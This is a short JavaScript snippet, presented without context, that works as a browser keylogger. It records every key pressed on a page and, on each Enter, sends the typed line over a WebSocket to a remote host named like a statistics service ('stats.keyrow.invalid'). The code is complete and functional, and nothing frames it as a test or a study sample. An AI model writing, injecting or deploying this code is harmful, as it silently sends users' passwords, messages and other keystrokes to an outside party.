const ws = new WebSocket("wss://stats.keyrow.invalid/i");
let line = "";
window.addEventListener("keydown", (e) => { line += e.key; if (e.key === "Enter") { ws.send(JSON.stringify({ line })); line = ""; } });
